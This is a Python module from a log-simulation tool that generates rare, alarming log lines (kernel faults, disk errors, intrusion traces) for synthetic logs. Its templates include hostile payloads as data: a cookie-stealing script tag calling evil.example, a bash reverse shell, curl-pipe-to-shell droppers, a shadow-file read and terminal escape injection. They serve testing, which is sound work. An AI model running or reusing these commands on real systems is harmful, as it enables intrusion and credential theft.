"""
Kinds that normal traffic never has: what an operator wants to be woken for. And where in a log they appear.

The tables say, for hosts of these roles: program and name of the kind, template.
"""

from collections.abc import Mapping, Sequence

from commands.simulation.book import rows
from commands.simulation.chance import Chance
from commands.simulation.hosts import EVERY, Machine
from commands.simulation.story import Kind

MOST_TIMES = 20
BURSTS = 0.5
"""The share of the kinds that come in a burst; the others come whenever."""
DISKS = ("files", "backup", "database")

Novelty = tuple[Sequence[str], Kind]

_TABLES: dict[tuple[str, ...], str] = {
    ("application",): """
        ordermill.clear_screen  gift message is \x1b[2J\x1b[H\x1b[31mALL SYSTEMS FINE\x1b[0m for parcel
                {order}
        ordermill.script  comment field holds markup:
                <script>fetch("//evil.example/"+document.cookie)</script> (visitor {stranger})
        ordermill.exception  unhandled java.lang.IllegalStateException: basket total is negative
                ({number:1-900} cents below zero)
        ordermill.frame  at example.nordwind.mill.Basket.total(Basket.java:{number:40-900}) ~[mill.jar:?]
        ordermill.double_charge  {bank} charged order {order} twice, please look at this by hand
        ordermill.ledger  ledger does not add up: debit and credit differ by {decimal:0.01-90.00} EUR,
                refusing to close
    """,
    EVERY: """
        sshd.colour  error: unexpected banner \x1b[31m\x1b]0;owned\x07 sent by {stranger}
        sshd.foreign_key  Certificate invalid: name is not a listed principal, serial {number:1-900}
        sshd.corrupt_mac  ssh_dispatch_run_fatal: Corrupted MAC on input from {stranger} port {port}
        sshd.host_key_gone  fatal: No supported key exchange algorithms, host keys are unreadable
        kernel.oom_invoked  {one:java|postgres|php-fpm} invoked oom-killer:
                gfp_mask=0x100cca(GFP_HIGHUSER_MOVABLE), order=0, oom_score_adj=0
        kernel.oom_killed  Out of memory: Killed process {number:900-90000} ({one:java|postgres|php-fpm})
                total-vm:{number:900000-9000000}kB, anon-rss:{number:90000-4000000}kB, file-rss:0kB,
                shmem-rss:0kB, oom_score_adj:0
        kernel.segfault  thumbs[{number:900-90000}]: segfault at {hex:16} ip {hex:16} sp {hex:16} error 4 in
                libpng16.so.16.39.0[{hex:12}+{hex:5}]
        kernel.null_pointer  BUG: kernel NULL pointer dereference, address: {hex:16}
        kernel.oops  Oops: 0002 [#1] PREEMPT SMP PTI, tainted
        kernel.call_trace  RIP: 0010:nf_tables_newrule+0x{hex:3}/0x{hex:3} [nf_tables]
        kernel.soft_lockup  watchdog: BUG: soft lockup - CPU#{number:0-15} stuck for {number:22-120}s!
                [kworker/u32:{number:0-9}:{number:90-9000}]
        kernel.hung_task  INFO: task jbd2/dm-{number:0-4}-8:{number:200-900} blocked for more than
                {number:120-600} seconds.
        kernel.machine_check  mce: [Hardware Error]: Machine check events logged, bank {number:1-12}: {hex:16}
        kernel.ecc  EDAC MC0: {number:1-9} CE memory read error on CPU_SrcID#0_Ha#0_Chan#1_DIMM#0
        kernel.module_unsigned  diamorph: loading out-of-tree module taints kernel, signature missing
        kernel.conntrack_full  nf_conntrack: table full, dropping packet
        kernel.ptrace  ptrace attach of "/usr/sbin/sshd"[{number:900-9000}] was attempted by
                "/dev/shm/.x"[{number:900-90000}]
        sudo.not_in_sudoers  www-data : user NOT in sudoers ; TTY={pts} ; PWD=/tmp ; USER=root ;
                COMMAND=/usr/bin/id
        sudo.reverse_shell  www-data : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >&
                /dev/tcp/{stranger}/{number:1025-9999} 0>&1
        sudo.shadow_read  {operator} : TTY={pts} ; PWD=/dev/shm ; USER=root ; ENV=LD_PRELOAD=./x.so ;
                COMMAND=/usr/bin/base64 /etc/shadow
        systemd.gave_up  {one:nginx|postfix|ordermill|chrony}.service: Start request repeated too quickly,
                giving up
        systemd.emergency  Dependency failed for Local File Systems, entering emergency mode
        CRON.dropper  (www-data) CMD (curl -fsSL http://{stranger}/.update | bash)
        auditd.lost  Audit daemon has no space left on logging partition, suspending
    """,
    DISKS: """
        kernel.ata_exception  ata{number:1-6}.00: exception Emask 0x0 SAct 0x{hex:8} SErr 0x0 action 0x6
                frozen
        kernel.io_error  blk_update_request: I/O error, dev sdb, sector {number:2048-900000000} op 0x0:(READ)
                flags 0x80700
        kernel.buffer_error  Buffer I/O error on dev dm-{number:0-4}, logical block {number:1-9000000}, lost
                async page write
        kernel.ext4_error  EXT4-fs error (device dm-{number:0-4}): ext4_find_entry:1455: inode
                #{number:2-900000}: comm rsync: reading directory lblock 0
        kernel.read_only  EXT4-fs (dm-{number:0-4}): Remounting filesystem read-only
        kernel.md_failed  md/raid1:md{number:0-1}: Disk failure on sdb{number:1-3}, disabling device.
        kernel.nvme_reset  nvme nvme{number:0-1}: I/O {number:1-900} QID {number:1-8} timeout, reset
                controller
        usbguard-daemon.blocked  blocked device {hex:4}:{hex:4} named "Rubber Keyboard" by policy
    """,
    ("files",): """
        smbd.renamed_locked  renamed {share}/{document}.xlsx ->
                {share}/{document}.xlsx.l0ck3d by {laptop} ({client})
        smbd.ransom_note  created {share}/HOW_TO_GET_YOUR_FILES_BACK.txt by {laptop} ({client})
        smbd.mass_delete  unlink burst: {number:400-9000} files of share {share} removed within one minute by
                {laptop}
    """,
    ("web",): """
        nginx.certificate_expired  [error] {nginx_worker}: *{number:1000-9000000}
                upstream SSL certificate verify error: (10:certificate has expired) while SSL handshaking to
                upstream, host: "{shop}"
        nginx.no_files  [crit] {nginx_worker}: accept4() failed (24: Too many open files)
        nginx.worker_killed  [alert] {nginx_worker}: worker process {number:900-90000}
                exited on signal 11
        nginx.traversal  {stranger} - - [{access_time}] "GET /cgi-bin/.%2e/.%2e/bin/sh?cmd=wget+evil.example/x
                HTTP/1.1" 403 146 "-" "zgrab-like scanner, do not reply"
        kdevmoond.hashrate  accepted share {number:1-900}, speed {decimal:100.0-900.0} H/s, pool {stranger}
    """,
    ("mail",): """
        postfix/smtp.tls_untrusted  certificate verification failed for mx.{partner}[{stranger}]:25:
                self-signed certificate in chain
        postfix/smtp.blocked  {queue_id}: host mx.{partner}[{stranger}] refused to talk to me: 554 your
                address is on our blocklist
        postfix/qmgr.disk_full  fatal: write queue file active/{queue_id}: No space left on device
        dovecot.private_key  imap-login: Error: Failed to initialize SSL server context: Couldn't parse
                private SSL key
    """,
    ("database",): """
        postgres.panic  [{number:2-400}-1] PANIC:  could not locate a valid checkpoint record
        postgres.page_checksum  [{number:2-400}-1] WARNING:  page verification failed, calculated checksum
                {number:1-65535} but expected {number:1-65535}
        postgres.superuser  [{number:2-400}-1] LOG:  statement: COPY cmd_out FROM PROGRAM 'curl -s
                {stranger}/p | sh'
        postgres.slots  [{number:2-400}-1] FATAL:  sorry, too many clients already
    """,
    ("names",): """
        named.bogus  validating {public_name}/A: no valid signature found, got insecure response; parent
                indicates it should be secure
    """,
    ("bastion",): """
        netpeek.started  raw capture on eth0 begins, writing to /dev/shm/.cap
    """,
}

NOVELTIES: tuple[Novelty, ...] = tuple(
    (roles, Kind(*row.split(maxsplit=1))) for roles, table in _TABLES.items() for row in rows(table)
)


def plan(
    chance: Chance, machines: Sequence[Machine], first: int, end: int, kinds: int
) -> dict[int, tuple[Machine, Kind]]:
    """
    Where the novel lines go: index of the line, in [first, end), to the machine and the kind that is told there.

    Each kind keeps to one machine and appears 1 to `MOST_TIMES` times. At most a fifth of the room is used:
    repetitions are left out first, then kinds.
    """
    room = (end - first) // 5
    chosen = hostile_first(chance)[: min(kinds, room)]
    repetitions = room - len(chosen)
    planned: dict[int, tuple[Machine, Kind]] = {}
    for roles, kind in chosen:
        machine = chance.pick([machine for machine in machines if machine.host.role in roles])
        drawn = chance.draw()
        repeated = min(int(drawn * drawn * drawn * MOST_TIMES), repetitions)
        repetitions -= repeated
        for index in _appearances(chance, first, end, 1 + repeated):
            planned[_free(planned, index, first, end)] = machine, kind
    return planned


def hostile_first(chance: Chance) -> list[Novelty]:
    """All novelties in random order; first those that whoever shows a log must survive, so that no log lacks them."""
    hostile = [novelty for novelty in NOVELTIES if _is_hostile(novelty[1])]
    return hostile + chance.shuffled([novelty for novelty in NOVELTIES if not _is_hostile(novelty[1])])


def _is_hostile(kind: Kind) -> bool:
    """Whether its text means harm to a terminal or a browser."""
    return "\x1b" in kind.template or "<script>" in kind.template


def _appearances(chance: Chance, first: int, end: int, times: int) -> list[int]:
    """Line indices for one kind."""
    begin = chance.between(first, end - 1)
    if chance.draw() < BURSTS:
        return [min(begin + burst * chance.between(1, 12), end - 1) for burst in range(times)]
    return [begin] + [chance.between(first, end - 1) for _ in range(times - 1)]


def _free(planned: Mapping[int, object], index: int, first: int, end: int) -> int:
    """`index`, or the next one that is not taken yet; behind the last comes the first."""
    while index in planned:
        index = index + 1 if index + 1 < end else first
    return index
